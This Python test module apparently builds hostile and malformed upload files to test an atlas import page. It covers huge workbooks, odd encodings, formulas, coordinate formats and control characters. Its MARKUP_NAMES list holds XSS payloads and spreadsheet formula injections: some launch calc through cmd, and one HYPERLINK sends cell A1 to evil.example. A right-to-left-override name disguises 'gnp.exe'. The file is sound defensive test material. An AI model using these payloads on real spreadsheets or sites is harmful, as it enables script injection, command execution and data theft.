"""Make malformed and hostile upload files, one maker per class of problem (not copies of one file).

Each maker takes a seed and size knobs and returns ``(bytes, file name, truth)`` where ``truth``
says what a correct import must find. The tests call them; ``python -m tests.hostile_files DIR``
writes a sample of every class to DIR, for trying the import page by hand or benchmarking.
"""

from __future__ import annotations

import io
import json
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import numpy as np
import pandas as pd
import shapely

from atlas.geo.datum import from_wgs84

_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/xl/workbook.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       '{sheets}{sst}</Types>')
_SHEET_CT = ('<Override PartName="/xl/worksheets/sheet{i}.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
_SST_CT = ('<Override PartName="/xl/sharedStrings.xml" '
           'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

NAMES = ["青少年宫", "科技馆", "图书馆", "社区科普画廊", "博物馆", "文化中心", "科普基地", "实验学校"]
DISTRICTS = ["海曙区", "江北区", "鄞州区", "镇海区", "北仑区"]


def _col(j: int) -> str:
    s = ""
    j += 1
    while j:
        j, r = divmod(j - 1, 26)
        s = chr(65 + r) + s
    return s


def write_xlsx(sheets: dict[str, Any], *, shared: list[str] | None = None,
               merges: dict[str, list[str]] | None = None, dimension: dict[str, str] | None = None,
               level: int = 6, hidden: tuple[str, ...] = ()) -> bytes:
    """A minimal workbook written by hand (so that hostile shapes can be made at any size).

    ``sheets`` maps a sheet name to an iterable of rows (lists of str/float/None) or to a
    callable writing raw ``<row>`` XML to a binary file; strings are inline unless they are
    ``("s", index)`` references into ``shared``, or ``("f", formula, cached value or None)``;
    sheets named in ``hidden`` are hidden.
    """
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        names = list(sheets)
        zf.writestr("[Content_Types].xml", _CT.format(
            sheets="".join(_SHEET_CT.format(i=i + 1) for i in range(len(names))),
            sst=_SST_CT if shared is not None else ""))
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", f'<workbook {_NS} {_RNS}><sheets>' + "".join(
            f'<sheet name="{escape(n)}" sheetId="{i + 1}" r:id="rId{i + 1}"'
            + (' state="hidden"' if n in hidden else "") + "/>" for i, n in enumerate(names))
            + "</sheets></workbook>")
        zf.writestr("xl/_rels/workbook.xml.rels",
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    + "".join(f'<Relationship Id="rId{i + 1}" Type="http://schemas.openxmlformats.org/'
                              'officeDocument/2006/relationships/worksheet" '
                              f'Target="worksheets/sheet{i + 1}.xml"/>' for i in range(len(names)))
                    + (f'<Relationship Id="rId{len(names) + 1}" Type="http://schemas.openxmlformats.org/'
                       'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                       if shared is not None else "") + "</Relationships>")
        if shared is not None:
            with zf.open("xl/sharedStrings.xml", "w", force_zip64=True) as fh:
                fh.write(f'<sst {_NS} count="{len(shared)}" uniqueCount="{len(shared)}">'.encode())
                for s in shared:
                    fh.write(b"<si><t>")
                    if isinstance(s, tuple):  # ("repeat", text, n): a huge string streamed in pieces
                        for _ in range(s[2]):
                            fh.write(s[1].encode())
                    else:
                        fh.write(escape(s).encode())
                    fh.write(b"</t></si>")
                fh.write(b"</sst>")
        for i, name in enumerate(names):
            with zf.open(f"xl/worksheets/sheet{i + 1}.xml", "w", force_zip64=True) as fh:
                fh.write(f"<worksheet {_NS}>".encode())
                if dimension and name in dimension:
                    fh.write(f'<dimension ref="{dimension[name]}"/>'.encode())
                fh.write(b"<sheetData>")
                rows = sheets[name]
                if callable(rows):
                    rows(fh)
                else:
                    for r, row in enumerate(rows, start=1):
                        fh.write(_row_xml(r, row).encode())
                fh.write(b"</sheetData>")
                if merges and name in merges:
                    fh.write(f'<mergeCells count="{len(merges[name])}">'.encode())
                    for ref in merges[name]:
                        fh.write(f'<mergeCell ref="{ref}"/>'.encode())
                    fh.write(b"</mergeCells>")
                fh.write(b"</worksheet>")
    return buf.getvalue()


def _row_xml(r: int, row: list[Any]) -> str:
    cells = []
    for j, v in enumerate(row):
        ref = f"{_col(j)}{r}"
        if v is None or v == "":
            continue
        if isinstance(v, tuple) and v[0] == "f":
            cached = "" if v[2] is None else f"<v>{v[2]!r}</v>"
            cells.append(f'<c r="{ref}"><f>{escape(v[1])}</f>{cached}</c>')
        elif isinstance(v, tuple):
            cells.append(f'<c r="{ref}" t="s"><v>{v[1]}</v></c>')
        elif isinstance(v, (int, float)):
            cells.append(f'<c r="{ref}"><v>{v!r}</v></c>')
        else:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(v))}</t></is></c>')
    return f'<row r="{r}">' + "".join(cells) + "</row>"


# --- sites: the truth every maker starts from -----------------------------------------------------

def sites(n: int, *, seed: int = 0) -> pd.DataFrame:
    """n venues in central Ningbo (WGS84), named, with district and address."""
    rng = np.random.default_rng(seed)
    return pd.DataFrame({
        "name": [f"{NAMES[i % len(NAMES)]}{seed}-{i}" for i in range(n)],
        "lon": np.round(rng.uniform(121.50, 121.62, n), 6),
        "lat": np.round(rng.uniform(29.84, 29.92, n), 6),
        "district": rng.choice(DISTRICTS, n),
        "address": [f"宁波市某路{i}号" for i in range(n)],
        "category": rng.choice(["科普基地", "科技馆", "图书馆"], n),
    })


# --- the classes --------------------------------------------------------------------------------

def xlsx_million_rows(*, rows: int = 1_048_575, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A small workbook whose sheet holds (and declares) about a million rows of data."""
    def write(fh: Any) -> None:
        fh.write(_row_xml(1, ["名称", "经度", "纬度"]).encode())
        chunk = []
        for r in range(2, rows + 2):
            chunk.append(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c><c r="B{r}"><v>121.5</v></c>'
                         f'<c r="C{r}"><v>29.8</v></c></row>')
            if len(chunk) == 10_000:
                fh.write("".join(chunk).encode())
                chunk = []
        fh.write("".join(chunk).encode())

    data = write_xlsx({"Sheet1": write}, shared=[f"场馆{seed}"],
                      dimension={"Sheet1": f"A1:C{rows + 1}"}, level=9)
    return data, "million_rows.xlsx", {"rows": rows}


def xlsx_declared_rows(*, declared: int = 1_048_576) -> tuple[bytes, str, dict[str, Any]]:
    """A workbook whose dimension claims a million rows and 16,384 columns, with a cell at the far end."""
    def write(fh: Any) -> None:
        fh.write(_row_xml(1, ["名称", "经度", "纬度"]).encode())
        fh.write(_row_xml(2, ["科技馆", 121.55, 29.87]).encode())
        fh.write(f'<row r="{declared}"><c r="C{declared}"><v>1</v></c></row>'.encode())

    data = write_xlsx({"Sheet1": write}, dimension={"Sheet1": f"A1:XFD{declared}"})
    return data, "declared_rows.xlsx", {"rows": 2}


def xlsx_big_cell(*, mib: int = 64) -> tuple[bytes, str, dict[str, Any]]:
    """A workbook with one shared-string cell of ``mib`` MiB (compresses to a few tens of KB)."""
    shared: list[Any] = ["名称", ("repeat", "A" * 1024 * 1024, mib)]
    rows = [["名称", "经度", "纬度"], [("s", 1), 121.55, 29.87]]
    return write_xlsx({"Sheet1": rows}, shared=shared, level=9), "big_cell.xlsx", {"mib": mib}


def xlsx_merged_category(*, n: int = 12, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """Rows grouped under a category cell merged down the group (as offices lay out lists)."""
    s = sites(n, seed=seed)
    groups = np.array_split(np.arange(n), 3)
    cats = ["科技馆", "图书馆", "高校"]
    rows: list[list[Any]] = [["类别", "名称", "经度", "纬度"]]
    merges = []
    for g, cat in zip(groups, cats, strict=True):
        for k, i in enumerate(g):
            rows.append([cat if k == 0 else None, s.name[i], float(s.lon[i]), float(s.lat[i])])
        merges.append(f"A{g[0] + 2}:A{g[-1] + 2}")
    truth = {"category": [c for g, c in zip(groups, cats, strict=True) for _ in g], "names": list(s.name)}
    return write_xlsx({"名单": rows}, merges={"名单": merges}), "merged.xlsx", truth


def csv_delimited(*, delimiter: str = ",", n: int = 20, seed: int = 0, encoding: str = "utf-8",
                  title_rows: int = 0, trailing: bool = False, headers: str = "zh"
                  ) -> tuple[bytes, str, dict[str, Any]]:
    """A CSV with a chosen delimiter, encoding, title rows above the header and trailing delimiters."""
    s = sites(n, seed=seed)
    head = {"zh": ["名称", "经度", "纬度", "所在区县", "详细地址"],
            "en": ["Site Name", "Longitude", "Latitude", "District", "Address"],
            "traps": ["Website", "Unnamed: 1", "name", "lng", "lat"]}[headers]
    lines = [f"{seed}年宁波市科普场所名单（第{k + 1}页）" + delimiter * (k % 2) for k in range(title_rows)]
    end = delimiter if trailing else ""
    if headers == "traps":
        lines.append(delimiter.join(head) + end)
        for i in range(n):
            lines.append(delimiter.join([f"https://example.org/{i}", str(i), s.name[i],
                                         str(s.lon[i]), str(s.lat[i])]) + end)
    else:
        lines.append(delimiter.join(head) + end)
        for i in range(n):
            lines.append(delimiter.join([s.name[i], str(s.lon[i]), str(s.lat[i]), s.district[i],
                                         s.address[i]]) + end)
    data = ("\r\n".join(lines) + "\r\n").encode(encoding)
    if encoding == "utf-16":
        data = data  # Python writes the BOM
    return data, "list.csv", {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat),
                              "title_rows": title_rows}


def geojson_shapes(*, n: int = 6, seed: int = 0, kinds: tuple[str, ...] = ("polygon", "line", "point"),
                   empty_coordinate_props: bool = False, address_only: int = 0
                   ) -> tuple[bytes, str, dict[str, Any]]:
    """Features of several kinds and sizes; optional empty lon/lat properties; address-only features."""
    s = sites(n, seed=seed)
    feats = []
    truth: dict[str, Any] = {"extent_m": [], "kinds": [], "names": []}
    for i in range(n):
        kind = kinds[i % len(kinds)]
        x, y = float(s.lon[i]), float(s.lat[i])
        half = 0.0005 * (i + 1) * 3  # from ~50 m to several hundred metres
        if kind == "polygon":
            g = shapely.box(x - half, y - half, x + half, y + half)
        elif kind == "line":
            g = shapely.LineString([(x - half, y), (x + half, y)])
        else:
            g = shapely.Point(x, y)
        props: dict[str, Any] = {"名称": s.name[i], "地址": s.address[i]}
        if empty_coordinate_props:
            props.update({"经度": "", "纬度": ""})
        feats.append({"type": "Feature", "properties": props, "geometry": json.loads(shapely.to_geojson(g))})
        truth["kinds"].append(kind)
        truth["names"].append(s.name[i])
        truth["extent_m"].append(half * 111_000 * (2 ** 0.5 if kind == "polygon" else 1))
    for k in range(address_only):
        feats.append({"type": "Feature", "properties": {"名称": f"只有地址{k}", "地址": f"宁波市某街{k}号"},
                      "geometry": None})
    data = json.dumps({"type": "FeatureCollection", "features": feats}, ensure_ascii=False).encode()
    return data, "shapes.geojson", truth


def gpkg_layers(*, layers: int = 3, n: int = 4, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A GeoPackage with several point layers (the second one is the one the user wants)."""
    import geopandas as gpd

    names = [f"layer_{k}" for k in range(layers)]
    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "multi.gpkg"
        for k, name in enumerate(names):
            s = sites(n + k, seed=seed + k)
            gdf = gpd.GeoDataFrame({"名称": s.name}, geometry=shapely.points(s.lon, s.lat), crs="EPSG:4326")
            gdf.to_file(p, layer=name, driver="GPKG")
        data = p.read_bytes()
    return data, "multi.gpkg", {"layers": names, "rows": {nm: n + k for k, nm in enumerate(names)}}


def gcj_near_lines(*, n: int = 120, seed: int = 0, datum: str = "gcj02", with_district: bool = True
                   ) -> tuple[bytes, str, dict[str, Any]]:
    """Unknown places (not in the atlas) on land within 400 m of a coast or district line, in ``datum``."""
    from atlas.data.geodata import load_districts

    d = load_districts()
    rng = np.random.default_rng(seed)
    lines = shapely.union_all(d.boundary.to_numpy())
    # sample along the district lines (coast included), step inland by up to 400 m
    total = lines.length
    pts: list[tuple[float, float, str]] = []
    tries = 0
    while len(pts) < n and tries < 50 * n:
        tries += 1
        p = lines.interpolate(rng.uniform(0, total))
        q = (p.x + rng.uniform(-0.004, 0.004), p.y + rng.uniform(-0.0036, 0.0036))
        hit = d[d.contains(shapely.Point(q))]
        if len(hit) == 1 and shapely.Point(q).distance(lines) > 0.0008:  # > ~80 m inside
            pts.append((q[0], q[1], str(hit.name_zh.iloc[0])))
    lon, lat, dist = (np.array(v) for v in zip(*pts, strict=True))
    x, y = from_wgs84(lon, lat, datum=datum)
    df = pd.DataFrame({"名称": [f"未知场所{seed}-{i}" for i in range(len(lon))],
                       "经度": np.round(x, 7), "纬度": np.round(y, 7)})
    if with_district:
        df["所在区县"] = dist
    return df.to_csv(index=False).encode("utf-8"), "unknown_places.csv", {"lon": lon, "lat": lat}


def malformed_geo(*, kind: str = "geojson") -> tuple[bytes, str, dict[str, Any]]:
    """Broken GeoJSON / GeoPackage bytes (GDAL's error names the server's temporary file)."""
    if kind == "geojson":
        return b'{"type": "FeatureCollection", "features": [ {"type": "Feat', "broken.geojson", {}
    return b"SQLite format 3\x00" + b"\x00" * 200, "broken.gpkg", {}


# --- workbooks: where the list is, and how its cells are written ----------------------------------

_HEAD = ["名称", "经度", "纬度", "所在区县"]


def _list_rows(s: pd.DataFrame) -> list[list[Any]]:
    return [_HEAD] + [[s.name[i], float(s.lon[i]), float(s.lat[i]), s.district[i]] for i in range(len(s))]


def xlsx_sheets(
    *, layout: str = "instructions_first", n: int = 5, seed: int = 0
) -> tuple[bytes, str, dict[str, Any]]:
    """A workbook whose list is not simply its first sheet.

    ``layout``: ``instructions_first`` (a sheet of instructions, then the list),
    ``empty_first``, ``hidden_sheet`` (a hidden sheet with an old list comes first) or
    ``list_on_sheet3`` (a cover, a notes sheet, then the list under a title row).
    """
    s = sites(n, seed=seed)
    rows = _list_rows(s)
    old = _list_rows(sites(3, seed=seed + 99))
    hidden: tuple[str, ...] = ()
    if layout == "instructions_first":
        sheets: dict[str, Any] = {
            "填写说明": [["坐标请使用高德坐标"], ["名称请填写全称，不要缩写"], ["区县填写到区"]],
            "场馆名单": rows,
        }
    elif layout == "empty_first":
        sheets = {"Sheet1": [], "场馆名单": rows}
    elif layout == "hidden_sheet":
        sheets, hidden = {"旧名单": old, "场馆名单": rows}, ("旧名单",)
    else:
        sheets = {
            "封面": [["2024 年宁波市科普场馆"]],
            "备注": [["数据来源：区科协"], ["更新：2024-05"]],
            "场馆名单": [["2024 年科普场馆名单"], [], *rows],
        }
    data = write_xlsx(sheets, hidden=hidden)
    return (
        data,
        f"{layout}.xlsx",
        {
            "sheet": "场馆名单",
            "names": list(s.name),
            "lon": list(s.lon),
            "lat": list(s.lat),
            "sheets_with_data": [k for k, v in sheets.items() if v],
        },
    )


def xlsx_header_below(*, title_rows: int = 3, n: int = 6, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A workbook whose header sits under merged title rows (row ``title_rows + 1`` or lower)."""
    s = sites(n, seed=seed)
    titles = [["宁波市科普场馆名单", "宁波市科普场馆名单", "宁波市科普场馆名单"], ["填报单位：某区科协"], []][
        :title_rows
    ]
    rows = [*titles, *_list_rows(s)]
    data = write_xlsx({"名单": rows}, merges={"名单": ["A1:C1"]} if title_rows else None)
    header = len(titles) + 1
    return (
        data,
        "header_below.xlsx",
        {"names": list(s.name), "header_row": header, "lon": list(s.lon), "lat": list(s.lat)},
    )


def xlsx_formulas(*, cached: bool = True, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """Coordinates computed by formulas (=B2+0.001), with or without the result saved in the file."""
    s = sites(n, seed=seed)
    rows: list[list[Any]] = [["名称", "经度原值", "经度", "纬度"]]
    for i in range(n):
        lon = float(s.lon[i])
        rows.append(
            [s.name[i], lon - 0.001, ("f", f"B{i + 2}+0.001", lon if cached else None), float(s.lat[i])]
        )
    data = write_xlsx({"名单": rows})
    return (
        data,
        f"formulas_{'cached' if cached else 'uncached'}.xlsx",
        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat), "cached": cached},
    )


def xlsx_dates_as_coordinates(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """Coordinate cells formatted as dates/times in Excel (121.55 shows as 1900-04-30 13:12)."""
    import openpyxl

    s = sites(n, seed=seed)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(_HEAD[:3])
    for i in range(n):
        ws.append([s.name[i], float(s.lon[i]), float(s.lat[i])])
        ws.cell(i + 2, 2).number_format = "yyyy-mm-dd hh:mm"
        ws.cell(i + 2, 3).number_format = "[h]:mm:ss" if i % 2 else "yyyy/m/d"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue(), "dates.xlsx", {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}


def _dms(v: float, pos: str, neg: str, style: int) -> str:
    d = int(abs(v))
    m_float = (abs(v) - d) * 60
    m = int(m_float)
    sec = (m_float - m) * 60
    hemi = pos if v >= 0 else neg
    return [
        f"{d}°{m}'{sec:.4f}\"{hemi}",
        f"{d}度{m}分{sec:.4f}秒",
        f"{hemi}{d}°{m_float:.6f}′",
        f"{d} {m} {sec:.4f}",
    ][style % 4]


def text_numbers(
    *, kind: str = "fullwidth", n: int = 8, seed: int = 0, fmt: str = "csv"
) -> tuple[bytes, str, dict[str, Any]]:
    """Coordinates written as text: ``fullwidth`` digits, a ``decimal_comma`` ("121，55"), ``dms``
    (degrees-minutes-seconds in four styles) or with a ``hemisphere`` ("东经121.55").
    """
    s = sites(n, seed=seed)
    full = str.maketrans("0123456789.-", "０１２３４５６７８９．－")

    def write(v: float, axis: str, i: int) -> str:
        if kind == "fullwidth":
            return f"{v:.6f}".translate(full)
        if kind == "decimal_comma":
            return f"{v:.6f}".replace(".", "，" if i % 2 else ",")
        if kind == "hemisphere":
            return (
                (f"东经{v:.6f}" if axis == "lon" else f"北纬{v:.6f}")
                if i % 2
                else f"{v:.6f}{(axis == 'lon' and 'E') or 'N'}"
            )
        return _dms(v, "E" if axis == "lon" else "N", "W" if axis == "lon" else "S", i)

    table = pd.DataFrame(
        {
            "名称": s.name,
            "经度": [write(v, "lon", i) for i, v in enumerate(s.lon)],
            "纬度": [write(v, "lat", i) for i, v in enumerate(s.lat)],
        }
    )
    truth = {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
    if fmt == "xlsx":
        return write_xlsx({"名单": [list(table.columns), *table.to_numpy().tolist()]}), f"{kind}.xlsx", truth
    return table.to_csv(index=False).encode("utf-8"), f"{kind}.csv", truth


def lonlat_one_cell(
    *, order: str = "lonlat", n: int = 6, seed: int = 0, header: str = "坐标"
) -> tuple[bytes, str, dict[str, Any]]:
    """Both coordinates in one cell ("121.55,29.87", as AMap's picker copies them), or lat first."""
    s = sites(n, seed=seed)
    seps = [",", ", ", "，", " ", ";"]
    cells = [
        (f"{s.lon[i]}{seps[i % 5]}{s.lat[i]}" if order == "lonlat" else f"{s.lat[i]}{seps[i % 5]}{s.lon[i]}")
        for i in range(n)
    ]
    cells = [f"({c})" if i == 1 else c for i, c in enumerate(cells)]
    table = pd.DataFrame({"名称": s.name, header: cells, "地址": s.address})
    return (
        table.to_csv(index=False).encode("utf-8"),
        "one_cell.csv",
        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)},
    )


# --- text files: encodings, line endings, headers ------------------------------------------------


def csv_bom_gb18030(*, n: int = 6, seed: int = 0, bom: str = "utf8") -> tuple[bytes, str, dict[str, Any]]:
    """GB18030 text behind a UTF-8 BOM (an editor added it) or GB18030's own BOM."""
    s = sites(n, seed=seed)
    text = "名称,经度,纬度,地址\r\n" + "".join(
        f"{s.name[i]}·甬,{s.lon[i]},{s.lat[i]},{s.address[i]}\r\n" for i in range(n)
    )
    prefix = b"\xef\xbb\xbf" if bom == "utf8" else "\ufeff".encode("gb18030")
    return (
        prefix + text.encode("gb18030"),
        "bom_gb18030.csv",
        {"names": [f"{x}·甬" for x in s.name], "lon": list(s.lon), "lat": list(s.lat)},
    )


def csv_mixed_line_endings(*, n: int = 9, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """Rows ended by \\r\\n, \\n and a lone \\r in turn (lists pasted together from several systems)."""
    s = sites(n, seed=seed)
    ends = ["\r\n", "\n", "\r"]
    text = "名称,经度,纬度\r\n" + "".join(f"{s.name[i]},{s.lon[i]},{s.lat[i]}{ends[i % 3]}" for i in range(n))
    return (
        text.encode("utf-8"),
        "mixed_endings.csv",
        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)},
    )


def csv_duplicate_headers(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """Two columns called 名称 (the Chinese and the English name) and two called 备注."""
    s = sites(n, seed=seed)
    lines = ["名称,名称,经度,纬度,备注,备注"] + [
        f"{s.name[i]},Venue {i},{s.lon[i]},{s.lat[i]},a{i},b{i}" for i in range(n)
    ]
    return (
        ("\n".join(lines) + "\n").encode(),
        "dup_headers.csv",
        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)},
    )


# --- names: invisible characters, markup, formulas ------------------------------------------------

#: Invisible or control characters as they arrive in names: NUL, C0, C1, bidi overrides and
#: isolates, zero-width characters, BOM, soft hyphen, a Unicode tag, a line break.
BREAKS = {"\n", "\u2028", "\x85"}  # line breaks become one space
CONTROL_CHARS = [
    "\x00",
    "\x07",
    "\x1b",
    "\x85",
    "\x9b",
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u00ad",
    "\U000e0041",
    "\n",
    "\u2028",
]


def names_with_control_chars(
    *, fmt: str = "csv", n: int = 8, seed: int = 0
) -> tuple[bytes, str, dict[str, Any]]:
    """Names with control characters inside; one name is nothing but control characters.

    XLSX writes them as the ``_xHHHH_`` escapes Excel uses (a lone surrogate ``_xD800_`` too),
    GeoJSON as JSON escapes (``\\ud800`` included), CSV as the bytes themselves (no surrogates:
    UTF-8 cannot hold them).
    """
    s = sites(n, seed=seed)
    chars = [CONTROL_CHARS[i % len(CONTROL_CHARS)] for i in range(n)]
    dirty = [f"{nm[:2]}{c}{nm[2:]}" for nm, c in zip(s.name, chars, strict=True)]
    dirty[1] = f"{s.name[1][:2]}\x00\u202egnp.exe\u202c{s.name[1][2:]}"
    clean = [f"{nm[:2]} {nm[2:]}" if c in BREAKS else nm for nm, c in zip(s.name, chars, strict=True)]
    clean[1] = f"{s.name[1][:2]}gnp.exe{s.name[1][2:]}"
    dirty[-1], clean[-1] = "\x00\u200b\u202e", ""  # nothing left: refused for a missing name
    if fmt == "xlsx":

        def esc(t: str) -> str:
            return "".join(
                f"_x{ord(c):04X}_" if (ord(c) < 32 or 0xD800 <= ord(c) <= 0xDFFF) else c for c in t
            )

        dirty_x = [esc(d) for d in dirty]
        dirty_x[2] = esc(s.name[2][:2]) + "_xD800_" + s.name[2][2:]
        clean[2] = s.name[2]
        rows = [["名称", "经度", "纬度"]] + [[dirty_x[i], float(s.lon[i]), float(s.lat[i])] for i in range(n)]
        data = write_xlsx({"名单": rows})
    elif fmt == "geojson":
        dirty[2] = s.name[2][:2] + "\ud800" + s.name[2][2:]
        clean[2] = s.name[2]
        feats = [
            {
                "type": "Feature",
                "properties": {"名称": dirty[i], "地址": f"某路{i}号\x00"},
                "geometry": {"type": "Point", "coordinates": [float(s.lon[i]), float(s.lat[i])]},
            }
            for i in range(n)
        ]
        data = json.dumps({"type": "FeatureCollection", "features": feats}).encode()
    else:
        table = pd.DataFrame(
            {"名称": dirty, "经度": s.lon, "纬度": s.lat, "地址": [f"某路{i}\x00号" for i in range(n)]}
        )
        data = table.to_csv(index=False).encode("utf-8")
    return data, f"control_chars.{fmt}", {"clean": clean, "lon": list(s.lon), "lat": list(s.lat)}


#: Names that are markup or spreadsheet formulas.
MARKUP_NAMES = [
    '<script>alert("x")</script>科技馆',
    "<img src=x onerror=alert(1)>图书馆",
    '"><svg onload=alert(1)>',
    "[点我](javascript:alert(1))",
    "**粗体**_斜体_ `代码`",
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "$5 与 $$10",
]


def markup_names(*, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A list whose names (and addresses) are HTML, JavaScript, Markdown or spreadsheet formulas."""
    n = len(MARKUP_NAMES)
    s = sites(n, seed=seed)
    table = pd.DataFrame(
        {
            "名称": MARKUP_NAMES,
            "经度": s.lon,
            "纬度": s.lat,
            "地址": [f"<b>某路{i}号</b>" if i % 2 else '=HYPERLINK("x")' for i in range(n)],
        }
    )
    return table.to_csv(index=False).encode("utf-8"), "markup.csv", {"names": MARKUP_NAMES}


# --- geometry files: mixed, missing and 3D geometries, a crs member, a zipped shapefile ------------


def geojson_mixed(*, crs: str | None = None, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """Points (2D and 3D), a multipoint, a polygon, a line, a null geometry and an empty one.

    ``crs``: a GeoJSON 2008 ``crs`` member, ``"EPSG:3857"`` (coordinates then in Web Mercator
    metres), ``"EPSG:4490"`` (CGCS2000 degrees) or ``"CRS84"``.
    """
    from pyproj import Transformer

    s = sites(7, seed=seed)
    x, y = np.asarray(s.lon, float), np.asarray(s.lat, float)
    if crs == "EPSG:3857":
        x, y = Transformer.from_crs("EPSG:4326", "EPSG:3857", always_xy=True).transform(x, y)
    d = 0.001 if crs != "EPSG:3857" else 111.0
    geoms: list[Any] = [
        {"type": "Point", "coordinates": [x[0], y[0]]},
        {"type": "Point", "coordinates": [x[1], y[1], 12.5]},
        {"type": "MultiPoint", "coordinates": [[x[2], y[2], 3.0]]},
        {
            "type": "Polygon",
            "coordinates": [
                [
                    [x[3] - d, y[3] - d],
                    [x[3] + d, y[3] - d],
                    [x[3] + d, y[3] + d],
                    [x[3] - d, y[3] + d],
                    [x[3] - d, y[3] - d],
                ]
            ],
        },
        {"type": "LineString", "coordinates": [[x[4] - d, y[4], 1.0], [x[4] + d, y[4], 2.0]]},
        None,
        {"type": "GeometryCollection", "geometries": []},
    ]
    feats = [
        {"type": "Feature", "properties": {"名称": s.name[i]}, "geometry": g} for i, g in enumerate(geoms)
    ]
    doc: dict[str, Any] = {"type": "FeatureCollection", "features": feats}
    if crs:
        name = (
            "urn:ogc:def:crs:OGC:1.3:CRS84"
            if crs == "CRS84"
            else f"urn:ogc:def:crs:EPSG::{crs.split(':')[1]}"
        )
        doc["crs"] = {"type": "name", "properties": {"name": name}}
    return (
        json.dumps(doc).encode(),
        "mixed.geojson",
        {
            "names": list(s.name),
            "lon": list(s.lon),
            "lat": list(s.lat),
            "placed": [0, 1, 2, 3, 4],
            "unplaced": [5, 6],
        },
    )


def zipped(entries: dict[str, bytes], *, level: int = 9) -> bytes:
    """A zip (deflated) holding ``entries``: ``{name in the zip: content}``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, blob in entries.items():
            zf.writestr(name, blob)
    return buf.getvalue()


def zipped_shapefile(*, n: int = 4, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A Shapefile's parts in a zip, as GIS offices send them."""
    import geopandas as gpd

    s = sites(n, seed=seed)
    gdf = gpd.GeoDataFrame({"name": s.name}, geometry=shapely.points(s.lon, s.lat), crs="EPSG:4326")
    buf = io.BytesIO()
    with tempfile.TemporaryDirectory() as d, zipfile.ZipFile(buf, "w") as zf:
        gdf.to_file(Path(d) / "venues.shp", engine="pyogrio")
        for p in sorted(Path(d).iterdir()):
            zf.write(p, p.name)
    return buf.getvalue(), "venues.zip", {"names": list(s.name)}


def csv_damaged_utf8(*, n: int = 6, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A UTF-8 list with a few damaged bytes: a character cut short, a stray 0xFF."""
    s = sites(n, seed=seed)
    text = "名称,经度,纬度\n" + "".join(f"{s.name[i]},{s.lon[i]},{s.lat[i]}\n" for i in range(n))
    data = text.encode()
    cut = s.name[1].encode()
    data = data.replace(cut, cut[:3] + cut[3:5] + cut[6:], 1)  # the 2nd character loses a byte
    data = data.replace(s.name[3].encode(), s.name[3].encode() + b"\xff", 1)
    clean = list(s.name)
    clean[1] = s.name[1][0] + s.name[1][2:]
    return data, "damaged.csv", {"names": clean, "damaged_rows": [3, 5]}


def gpkg_nul_text(*, n: int = 4, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
    """A GeoPackage whose names hold a NUL (GDAL cuts its strings there; SQLite keeps them)."""
    import sqlite3

    import geopandas as gpd

    s = sites(n, seed=seed)
    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "nul.gpkg"
        gpd.GeoDataFrame({"名称": s.name}, geometry=shapely.points(s.lon, s.lat), crs="EPSG:4326").to_file(
            p, layer="venues", driver="GPKG"
        )
        con = sqlite3.connect(p)
        for (trigger,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
